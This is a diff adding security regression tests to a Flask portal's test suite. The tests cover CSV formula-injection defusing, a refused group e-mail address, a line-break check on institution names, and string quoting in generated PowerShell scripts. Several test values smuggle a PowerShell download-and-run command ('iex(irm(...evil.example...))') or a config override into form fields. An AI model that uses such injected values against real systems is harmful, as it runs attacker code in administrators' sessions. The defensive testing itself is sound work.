@@ -8,6 +8,7 @@ Hypothesis runs derandomized (the same examples every run, so CI is deterministi
 ``PORTAL_FUZZ_PROFILE=explore`` for a longer random search on a workstation.
 """
 
+import csv
 import io
 import os
 import re
@@ -19,7 +20,7 @@ from flask import url_for
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from portal import invitations, rotation, staff
+from portal import certificates, invitations, rotation, staff
 from portal.extensions import db
 from portal.microsoft.clouds import CLOUDS
 from portal.models import (
@@ -32,8 +33,10 @@ from portal.models import (
     Status,
     utcnow,
 )
-from portal.validators import ADDRESS, DOMAIN, GUID
+from portal.validators import ADDRESS, DOMAIN, GUID, has_control_characters
 from tests.conftest import CSRF, Wizard, sign_in_staff
+from tests.hostile import INJECTIONS, literals
+from tests.hostile import hostile_text as injection_text
 
 settings.register_profile(
     "ci",
@@ -292,8 +295,6 @@ class Portal:
         self.app = app
         self.contexts: dict[str, Context] = {}
         with app.app_context():
-            from portal import certificates
-
             certificates.create_vendor_certificate(365, "test")
             db.session.commit()
         runner = app.test_cli_runner()
@@ -474,6 +475,7 @@ class Portal:
                 assert c.review_message is None or 0 < len(c.review_message) <= 4000
             for i in db.session.query(Institution):
                 assert i.name.strip() and len(i.name) <= 200
+                assert not has_control_characters(i.name), i.name
                 assert ADDRESS.match(i.contact_email)
                 assert i.hosting in ("managed", "on_premises")
 
@@ -701,3 +703,142 @@ def test_callback_answers_to_a_pending_request_survive_hostile_parameters(portal
     if response.status_code >= 400:
         assert all(not action.endswith("_granted") for _, action in new_events), new_events
     portal.check_saved_values()
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, CSV
+# Injection), also where a separator it splits on (";" in Dutch Excel, ",") came just before,
+# with spaces or quotes between.
+FORMULA = re.compile(r"""(^|[;,])[ "]*[=+\-@\t\r]""")
+
+
+@pytest.fixture
+def console(make_app):
+    """The portal and a signed-in staff member's browser on its console."""
+    app = make_app()
+    runner = app.test_cli_runner()
+    result = runner.invoke(
+        args=["staff", "create", "support@mytimetable.example"],
+        input=f"{PASSWORD}\n{PASSWORD}\n",
+    )
+    assert result.exit_code == 0, result.output
+    client = app.test_client()
+    token = CSRF.search(client.get("/support/sign-in").text).group(1)
+    data = {"csrf_token": token, "email": "support@mytimetable.example", "password": PASSWORD}
+    assert client.post("/support/sign-in", data=data).status_code == 302
+    return app, client
+
+
+def _check_csv_export(app, client, values: list[str]):
+    """Rows whose free-text cells hold ``values`` (stored as older rules may have let them in)
+    come out quoted, defused, and otherwise as they were."""
+    with app.app_context():
+        db.session.query(Configuration).delete()
+        db.session.query(Institution).delete()
+        for n, value in enumerate(values):
+            value = value.replace("\x00", "")[:200]  # PostgreSQL stores no NUL in text
+            institution = Institution(
+                name=value, slug=f"hostile-{n}", hosting="managed", contact_email="a@b.edu"
+            )
+            institution.configuration = Configuration(
+                tenant_guid=f"00000000-0000-0000-0000-{n:012d}",
+                tenant_id=value,
+                client_id=value[:36],
+                security_group_email=value,
+                reviewed_by=value,
+            )
+            db.session.add(institution)
+        db.session.commit()
+    response = client.get("/support/export.csv")
+    assert response.status_code == 200
+    text = response.get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    again = io.StringIO()
+    csv.writer(again, quoting=csv.QUOTE_ALL).writerows(rows)
+    assert again.getvalue() == text, "every cell is quoted"
+    header, *rows = rows
+    assert len(rows) == len(values)
+    for row in rows:
+        cells = dict(zip(header, row, strict=True))
+        n = int(cells["tenant_guid"].rsplit("-", 1)[1])
+        value = values[n].replace("\x00", "")[:200]
+        for column, original in (
+            ("institution", value),
+            ("tenant_id", value),
+            ("client_id", value[:36]),
+            ("security_group_email", value),
+            ("reviewed_by", value),
+        ):
+            cell = cells[column]
+            assert not FORMULA.search(cell), (column, cell)
+            # The defusing adds one ' before each formula start and changes nothing else.
+            assert cell.replace("'", "") == original.replace("'", ""), (column, cell)
+            assert len(cell) == len(original) + len(FORMULA.findall(original)), (column, cell)
+
+
+def test_the_csv_export_quotes_and_defuses_hostile_cells(console):
+    _check_csv_export(*console, [v for v in INJECTIONS if v] + HOSTILE[:12])
+
+
+@FUZZ
+@given(values=st.lists(injection_text, min_size=1, max_size=5))
+def test_the_csv_export_defuses_generated_hostile_cells(console, values):
+    _check_csv_export(*console, values)
+
+
+# The group address that became code in the administrator's Exchange Online session.
+ISSUE_GROUP = "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@contoso.edu"
+
+
+def test_the_group_address_that_ran_code_is_refused_with_a_message(app, wizard, invitation):
+    wizard.open(invitation["managed"])
+    wizard.to_tenant("application")
+    response = wizard.enter_tenant("example.edu", CLIENT_ID, group=ISSUE_GROUP)
+    assert response.status_code == 400
+    assert "e-mail address, such as mytimetable@example.edu" in response.text
+    with app.app_context():
+        configuration = (
+            db.session.query(Configuration)
+            .join(Institution)
+            .filter_by(name="Example University")
+            .one()
+        )
+        assert (configuration.client_id, configuration.security_group_email) == (None, None)
+
+
+def test_the_console_refuses_an_institution_name_with_a_line_break(console):
+    app, client = console
+    token = CSRF.search(client.get("/support/institutions").text).group(1)
+    response = client.post(
+        "/support/institutions",
+        data={
+            "csrf_token": token,
+            "name": "Evil\noffice365.authority=https://evil.example/",
+            "hosting": "on_premises",
+            "contact_email": "it@evil.example",
+        },
+    )
+    assert response.status_code == 400
+    assert "control characters" in response.text
+    with app.app_context():
+        assert db.session.query(Institution).count() == 0
+
+
+def test_quotes_in_a_name_and_a_group_stay_strings_in_the_downloaded_scripts(app, wizard):
+    name = "O\u2019Brien \u2018College\u2019; iex(irm(\u2018https://evil.example/\u2019))"
+    group = "o'brien.staff@contoso.edu"
+    with app.app_context():
+        certificates.create_vendor_certificate(365, "test")
+        institution = invitations.create_institution(name, "managed", "it@contoso.edu", "t")
+        link = invitations.issue_invitation(institution, "test")
+        db.session.commit()
+    wizard.open(link)
+    wizard.to_tenant("application")
+    assert wizard.enter_tenant("example.edu", CLIENT_ID, group=group).status_code == 302
+    for script in ("rbac", "access-policy"):
+        response = wizard.client.get(f"/setup/scripts/{script}.ps1")
+        assert response.status_code == 200
+        values, code = literals(response.get_data(as_text=True))
+        assert group in values and CLIENT_ID in values
+        assert "iex" not in code and "evil" not in code
+        if script == "rbac":
+            assert f"MyTimetable - {name}" in values
